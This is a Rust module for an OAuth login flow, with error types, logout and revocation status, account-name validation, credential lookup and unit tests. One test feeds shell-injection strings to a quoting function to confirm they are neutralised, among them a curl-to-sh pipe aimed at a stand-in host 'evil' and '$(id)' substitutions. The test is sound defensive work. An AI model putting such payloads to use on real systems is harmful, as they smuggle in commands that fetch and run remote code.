//! Logins: a person goes to an authorization server with a browser and comes back with a code, which becomes a grant
//! in the vault.
//!
//! [`desk`] knows the logins that were begun (`book`) and finishes them; [`face`] is what a browser meets, on the admin
//! listener or on a `door` that is opened for a redirect URI of its own; [`pages`] is what it shows.

mod book;
mod callback;
pub mod desk;
mod door;
pub mod face;
mod handout;
pub(crate) mod html;
pub mod pages;

use std::sync::Arc;

use http::StatusCode;
use serde::{Deserialize, Serialize};

use crate::credential::LoginCredential;
pub use crate::credential::shell_word;
use crate::credential::vault::VaultError;
use crate::oauth::OAuthError;

pub use self::book::{Done, Outcome, Return};
pub use self::desk::{Begun, Desk};
pub use self::door::DoorError;
pub use self::face::Place;

/// What a logout did. The grant is forgotten in any case. Holds no secret.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Logout {
    /// Was there a grant?
    pub existed: bool,
    /// Was it revoked at the server?
    pub revoked: Revoked,
}

/// Was a grant revoked at the server?
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Revoked {
    /// It was.
    Yes,
    /// There was nothing to revoke, or no place to revoke it at.
    Nowhere,
    /// It may still be valid there.
    Failed {
        /// Why.
        error: String,
    },
}

/// Why a login cannot be begun, continued or ended. Holds no secret.
#[derive(Debug, thiserror::Error)]
pub enum LoginError {
    /// No credential of this name is one that people log in to.
    #[error("there is no login to {name:?}; {known}")]
    UnknownCredential {
        /// The name, as given.
        name: String,
        /// Which there are, as a sentence.
        known: String,
    },
    /// Not an account's name.
    #[error("an account's name is 1 to 128 visible ASCII characters, without spaces")]
    AccountName,
    /// There was none of this id, or long ago.
    #[error("this login is not known (any more); begin again")]
    UnknownLogin,
    /// Too many at once.
    #[error("too many logins have been begun and not finished; finish one or wait until one expires")]
    Full,
    /// The pasted text cannot be used.
    #[error("{0}")]
    Pasted(String),
    /// The redirect URI cannot be listened on.
    #[error(transparent)]
    Door(#[from] DoorError),
    /// The authorization server does not say where its endpoints are.
    #[error("the authorization server cannot be asked where to log in")]
    Server(#[source] OAuthError),
    /// The grant cannot be changed in the store.
    #[error("the grant is as it was: the store cannot be changed")]
    Vault(#[from] VaultError),
    /// The system gives no random bytes.
    #[error("the system gives no random bytes")]
    Random,
}

impl LoginError {
    /// What it is for an HTTP client.
    pub fn status(&self) -> StatusCode {
        match self {
            Self::UnknownCredential { .. } | Self::UnknownLogin => StatusCode::NOT_FOUND,
            Self::AccountName | Self::Pasted(_) => StatusCode::BAD_REQUEST,
            Self::Server(_) => StatusCode::BAD_GATEWAY,
            Self::Full | Self::Door(_) | Self::Vault(_) | Self::Random => StatusCode::SERVICE_UNAVAILABLE,
        }
    }
}

/// The account's name, if it is one: 1 to 128 visible ASCII characters.
///
/// # Errors
/// [`LoginError::AccountName`].
pub fn account_name(name: &str) -> Result<Arc<str>, LoginError> {
    let fits = (1..=128).contains(&name.len()) && name.bytes().all(|byte| byte.is_ascii_graphic());
    if fits { Ok(name.into()) } else { Err(LoginError::AccountName) }
}

/// The credential of this name.
///
/// # Errors
/// [`LoginError::UnknownCredential`], which names those that there are.
pub fn credential_of<'a>(
    credentials: &'a [LoginCredential],
    name: &str,
) -> Result<(usize, &'a LoginCredential), LoginError> {
    let found = credentials.iter().enumerate().find(|(_, credential)| &*credential.name == name);
    found.ok_or_else(|| unknown(name, credentials.iter().map(|credential| &*credential.name)))
}

/// There is no login of this name, but these.
pub fn unknown<'a>(name: &str, known: impl Iterator<Item = &'a str>) -> LoginError {
    let known: Vec<&str> = known.collect();
    let known = if known.is_empty() {
        "no route of the configuration uses a credential of type \"authorization_code\" or \"neon_oauth\""
            .to_owned()
    } else {
        format!("those to log in to: {}", known.join(", "))
    };
    LoginError::UnknownCredential { name: name.to_owned(), known }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_account_name_is_visible_ascii() {
        for name in ["a", "default", "alice@example.com", "x".repeat(128).as_str()] {
            assert!(account_name(name).is_ok(), "{name}");
        }
        for name in ["", "a b", "a\n", "é", "\u{7f}", "x".repeat(129).as_str()] {
            assert!(account_name(name).is_err(), "{name:?}");
        }
    }

    #[test]
    fn a_word_for_a_shell_is_one_word() {
        let cases = [
            ("alice@example.com", "alice@example.com"),
            ("a|b", "'a|b'"),
            ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
            ("`id`", "'`id`'"),
            ("~root", "'~root'"),
            ("a'$(id)'", r"'a'\''$(id)'\'''"),
            ("", "''"),
        ];
        for (text, want) in cases {
            assert_eq!(shell_word(text), want, "{text}");
        }
    }

    #[test]
    fn an_unknown_credential_names_those_that_are() {
        let text = unknown("nein", ["neon", "other"].into_iter()).to_string();
        assert!(text.contains("\"nein\"") && text.contains("neon, other"), "{text}");
        assert!(unknown("x", [].into_iter()).to_string().contains("neon_oauth"));
    }
}
